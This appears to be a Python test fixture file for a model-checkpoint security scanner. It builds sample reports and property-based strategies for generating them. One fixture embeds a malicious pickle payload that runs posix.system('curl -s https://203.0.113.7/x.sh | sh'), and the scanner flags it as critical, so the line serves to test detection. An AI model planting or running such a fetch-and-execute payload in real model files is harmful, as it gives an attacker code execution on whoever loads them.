"""Reports for the tests: one for each kind of outcome, and a hypothesis strategy for any valid report."""

from __future__ import annotations

import hashlib

from hypothesis import strategies as st

from aiverify.artifact import Artifact, ArtifactFile, FileClass, SourceKind
from aiverify.finding import Finding, Location, Severity, Unexamined
from aiverify.layers import Layer
from aiverify.report import (
    AttestationResult,
    Conversion,
    Dropped,
    FileState,
    Outcome,
    PolicyRecord,
    PolicySource,
    Report,
    SignatureResult,
    Variant,
    Verdict,
)
from aiverify.rules import finding, rules

COMMIT = "3f2a91c07d5b4e6f8a9b0c1d2e3f405162738495"
POLICY = PolicyRecord(
    sources=(
        PolicySource(name="defaults"),
        PolicySource(name="/home/ada/project/aiverify.toml", digest=hashlib.sha256(b"toml").hexdigest()),
        PolicySource(name="--cert-identity"),
    ),
    digest=hashlib.sha256(b"policy").hexdigest(),
)


def file(path: str, size: int = 1234, *, kind: str = "json", role: FileClass = FileClass.CONFIG) -> ArtifactFile:
    return ArtifactFile(
        path=path, size=size, sha256=hashlib.sha256(path.encode()).hexdigest(), format=kind, file_class=role
    )


def report(**changes: object) -> Report:
    """A report that passes, with ``changes`` to its fields."""
    fields: dict[str, object] = {
        "tool": "aiverify 0.1.0",
        "started_at": "2026-05-04T12:30:00Z",
        "duration_s": 3.21,
        "target": "acme/tiny-bert",
        "policy": POLICY,
        "artifact": Artifact(
            source=SourceKind.HUB,
            repo="acme/tiny-bert",
            revision=COMMIT,
            files=(
                file("config.json", 570),
                file("model.safetensors", 437_990_000, kind="safetensors", role=FileClass.WEIGHTS),
                file("tokenizer.json", 466_000),
                file("README.md", 2_300, kind="text", role=FileClass.INERT),
            ),
        ),
        "signatures": (
            SignatureResult(
                kind="keyless",
                outcome="verified",
                signer="release@acme.example (issuer https://accounts.example)",
                covers=("config.json", "model.safetensors", "tokenizer.json", "README.md"),
                detail="signed by release@acme.example (issuer https://accounts.example)",
            ),
        ),
        "findings": (),
        "unexamined": (),
        "conversions": (),
        "variants": (
            Variant(
                name="safetensors",
                files=("config.json", "model.safetensors", "tokenizer.json"),
                outcome=Outcome.PASS,
            ),
        ),
        "verdict": Verdict(
            outcome=Outcome.PASS,
            variant="safetensors",
            reasons=("everything that loading safetensors would use was examined and allowed",),
        ),
    }
    return Report(**{**fields, **changes})


PAYLOAD = """\
import posix

_0 = posix.system('curl -s https://203.0.113.7/x.sh | sh')
_1 = collections.OrderedDict()
_1['bert.embeddings.word_embeddings.weight'] = torch._utils._rebuild_tensor_v2(
    persistent_load(('storage', torch.FloatStorage, '0', 'cpu', 23440896)), 0, (30522, 768), (768, 1), False, _2)
result = _1
"""


def blocked() -> Report:
    """A checkpoint that runs a command, beside a clean safetensors file that the policy does not choose."""
    return report(
        artifact=Artifact(
            source=SourceKind.HUB,
            repo="acme/tiny-bert",
            revision=COMMIT,
            files=(
                file("config.json", 570),
                file("pytorch_model.bin", 438_000_000, kind="pytorch", role=FileClass.WEIGHTS),
                file("tokenizer.json", 466_000),
                file("modeling_tiny.py", 9_120, kind="python", role=FileClass.CODE),
                file("tf_model.h5", 536_000_000, kind="hdf5", role=FileClass.OTHER_FRAMEWORK),
            ),
        ),
        signatures=(SignatureResult(kind="none", outcome="absent", detail="No signature was found beside the files."),),
        findings=(
            finding("AIV201", "no signature was found beside the files", severity=Severity.INFO),
            finding(
                "AIV502",
                "Python source that no configuration file refers to",
                severity=Severity.LOW,
                file="modeling_tiny.py",
            ),
            finding(
                "AIV302",
                "loading imports tiny.layers.FancyNorm, which nobody has looked at",
                severity=Severity.MEDIUM,
                file="pytorch_model.bin",
                member="archive/data.pkl",
                offset=5190,
            ),
            finding(
                "AIV301",
                "loading calls posix.system('curl -s https://203.0.113.7/x.sh | sh')",
                severity=Severity.CRITICAL,
                file="pytorch_model.bin",
                member="archive/data.pkl",
                offset=37,
                evidence={"payload": PAYLOAD, "global": "posix.system"},
            ),
            finding(
                "AIV406",
                "the CRC of archive/data/17 does not match its content",
                severity=Severity.HIGH,
                file="pytorch_model.bin",
                member="archive/data/17",
            ),
            finding(
                "AIV405",
                "HDF5 is recognised, this version does not look inside",
                severity=Severity.INFO,
                file="tf_model.h5",
            ),
        ),
        variants=(
            Variant(
                name="pytorch", files=("config.json", "pytorch_model.bin", "tokenizer.json"), outcome=Outcome.BLOCK
            ),
            Variant(name="pytorch → twin", files=("config.json", "tokenizer.json"), outcome=Outcome.PASS),
        ),
        verdict=Verdict(
            outcome=Outcome.BLOCK,
            variant="pytorch",
            reasons=("pytorch_model.bin: AIV301, the pickle names something dangerous (posix.system)",),
        ),
    )


def to_review() -> Report:
    """A checkpoint with an unknown global and an unpinned signature; it could be converted."""
    return report(
        target="models/old-checkpoint",
        artifact=Artifact(
            source=SourceKind.FOLDER,
            files=(
                file("config.json", 570),
                file("pytorch_model-00001-of-00002.bin", 9_000_000_000, kind="pytorch", role=FileClass.WEIGHTS),
                file("pytorch_model-00002-of-00002.bin", 4_000_000_000, kind="pytorch", role=FileClass.WEIGHTS),
            ),
        ),
        duration_s=83.4,
        signatures=(
            SignatureResult(
                kind="keyless",
                outcome="unpinned",
                signer="ada@acme.example (issuer https://accounts.example)",
                covers=("config.json", "pytorch_model-00001-of-00002.bin"),
                detail="signed by ada@acme.example (issuer https://accounts.example); nobody said whom to expect",
            ),
        ),
        findings=(
            finding(
                "AIV302",
                "loading imports apex.amp.Opt, which nobody has looked at",
                severity=Severity.MEDIUM,
                file="pytorch_model-00001-of-00002.bin",
                member="archive/data.pkl",
                offset=1190,
                evidence={"payload": "import apex.amp\nresult = apex.amp.Opt(lr=0.1)\n"},
            ),
            finding(
                "AIV209",
                "signed by ada@acme.example, but nobody said whom to expect",
                severity=Severity.LOW,
                evidence={"identity": "ada@acme.example", "issuer": "https://accounts.example"},
            ),
        ),
        conversions=(
            Conversion(
                source="pytorch_model-00001-of-00002.bin",
                tensors=199,
                dropped=(Dropped(path="optimizer.state", type="dict"), Dropped(path="epoch", type="int")),
            ),
            Conversion(
                source="pytorch_model-00002-of-00002.bin",
                tensors=1,
                output="model-00002-of-00002.safetensors",
                receipt="model-00002-of-00002.safetensors.receipt.json",
                sha256=hashlib.sha256(b"twin").hexdigest(),
            ),
        ),
        variants=(
            Variant(
                name="pytorch",
                files=("config.json", "pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"),
                outcome=Outcome.REVIEW,
            ),
        ),
        verdict=Verdict(
            outcome=Outcome.REVIEW,
            variant="pytorch",
            reasons=("pytorch_model-00001-of-00002.bin: AIV302, apex.amp.Opt is not on the table of trusted globals",),
        ),
    )


def unreadable() -> Report:
    """A run that could not look at everything."""
    return report(
        target="./download",
        artifact=Artifact(
            source=SourceKind.FOLDER,
            files=(file("config.json", 570), file("model.ckpt", 2_000_000, kind="pytorch", role=FileClass.WEIGHTS)),
        ),
        signatures=(),
        unexamined=(
            Unexamined(
                file="model.ckpt",
                member="archive/data.pkl",
                reason="the archive ends before its central directory",
            ),
            *(
                Unexamined(file=f"shard-{index:05}.bin", reason="the file is on the list of the Hub but not on disk")
                for index in range(14)
            ),
        ),
        variants=(Variant(name="pytorch", files=("config.json", "model.ckpt"), outcome=Outcome.ERROR),),
        verdict=Verdict(outcome=Outcome.ERROR, variant="pytorch", reasons=("15 files could not be examined",)),
    )


def of_layers() -> Report:
    """A model of two shards whose layers are known."""
    shards = ("model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors")
    layers = [Layer(shards[0], "model.embed_tokens", "BF16", 1, 1_050_673_152)]
    for number in range(32):
        block = f"model.layers.{number}"
        layers += [
            Layer(shards[number // 16], f"{block}.self_attn", "BF16", 4, 83_886_080),
            Layer(shards[number // 16], f"{block}.mlp", "F8_E4M3", 3, 176_160_768),
            Layer(shards[number // 16], f"{block}.mlp", "F32", 3, 86_016),
            Layer(shards[number // 16], f"{block}.input_layernorm", "BF16", 1, 8192),
        ]
    layers.append(Layer(shards[1], "lm_head", "BF16", 1, 1_050_673_152))
    return report(target="acme/large", layers=tuple(layers))


def every_kind() -> tuple[Report, ...]:
    return (report(), to_review(), unreadable(), blocked())


# Two halves of a surrogate pair in a row become one character when they go through JSON, so no high half is drawn.
_ANY_CHARACTER = st.characters(exclude_characters=[chr(code) for code in range(0xD800, 0xDC00)])
_CONTROLS = ["\x1b", "\x9b", "\x07", "\x00", "\x7f", "\x85", "\r", "\n", "\t", "\x1b[2J", "\x1b]8;;"]
_INVISIBLE = ["\u202e", "\u2066", "\u200f", "\u200b", "\u2028", "\ufeff", "\u034f", "\u0301", "\udcff"]
_NASTY = st.sampled_from([*_CONTROLS, *_INVISIBLE, " ", "[/]", "[red]", "\\", "PASS", "→"])
texts = st.lists(st.one_of(_NASTY, st.text(_ANY_CHARACTER, max_size=12)), max_size=5).map("".join)
names = texts.filter(bool)
_digests = st.binary(max_size=3).map(lambda data: hashlib.sha256(data).hexdigest())
_counts = st.integers(min_value=0, max_value=2**63)
_json = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**63), 2**63) | st.floats(allow_nan=False, allow_infinity=False) | texts,
    lambda children: st.lists(children, max_size=3) | st.dictionaries(texts, children, max_size=3),
    max_leaves=6,
)
_evidence = st.dictionaries(texts, _json, max_size=2) | st.builds(lambda text: {"payload": text}, texts)
_findings = st.builds(
    Finding,
    rule=st.sampled_from(sorted(rules())) | st.just("AIV799"),
    severity=st.sampled_from(Severity),
    message=texts,
    file=st.none() | texts,
    location=st.builds(Location, st.none() | texts, st.none() | _counts),
    evidence=_evidence,
)
_files = st.builds(
    ArtifactFile,
    path=names,
    size=_counts,
    sha256=_digests,
    format=names,
    file_class=st.sampled_from(FileClass),
)


def _tuples(strategy: st.SearchStrategy[object]) -> st.SearchStrategy[tuple[object, ...]]:
    return st.lists(strategy, max_size=3).map(tuple)


reports = st.builds(
    Report,
    tool=names,
    started_at=st.sampled_from(["2026-05-04T12:30:00Z", "2026-05-04T12:30:00.123456+00:00"]),
    duration_s=st.floats(0, 1e9),
    target=names,
    policy=st.builds(
        PolicyRecord,
        sources=_tuples(st.builds(PolicySource, name=names, digest=st.none() | _digests)),
        digest=_digests,
    ),
    artifact=st.builds(
        Artifact,
        source=st.sampled_from(SourceKind),
        repo=st.none() | texts,
        revision=st.none() | st.just(COMMIT),
        files=st.lists(_files, max_size=3, unique_by=lambda item: item.path).map(tuple),
    ),
    signatures=_tuples(
        st.builds(
            SignatureResult,
            kind=st.sampled_from(["keyless", "key", "certificate", "none"]),
            outcome=st.sampled_from(["verified", "unpinned", "unchecked", "failed", "absent"]),
            detail=texts,
            signer=st.none() | texts,
            covers=_tuples(texts),
            files=_tuples(st.tuples(names, st.sampled_from(FileState))),
            partial=st.booleans(),
            root=st.none() | texts,
        )
    ),
    findings=_tuples(_findings),
    unexamined=_tuples(st.builds(Unexamined, file=names, reason=texts, member=st.none() | texts)),
    conversions=_tuples(
        st.builds(
            Conversion,
            source=names,
            tensors=_counts,
            dropped=_tuples(st.builds(Dropped, path=texts, type=texts)),
            output=st.none() | texts,
            receipt=st.none() | texts,
            sha256=st.none() | _digests,
        )
    ),
    variants=_tuples(st.builds(Variant, name=names, files=_tuples(texts), outcome=st.sampled_from(Outcome))),
    verdict=st.builds(Verdict, outcome=st.sampled_from(Outcome), reasons=_tuples(texts), variant=st.none() | texts),
    attestations=_tuples(
        st.builds(
            AttestationResult,
            kind=st.sampled_from(["keyless", "key", "certificate"]),
            outcome=st.sampled_from(["accepted", "refused"]),
            detail=texts,
            statement=_digests,
            signer=st.none() | texts,
            root=st.none() | texts,
            verified_at=st.none() | st.just("2026-05-04T12:30:00Z"),
            tool=st.none() | texts,
            policy=st.none() | _digests,
            verdict=st.none() | st.sampled_from(Outcome),
        )
    ),
    layers=_tuples(st.builds(Layer, st.none() | texts, texts, texts, _counts, _counts)),
)
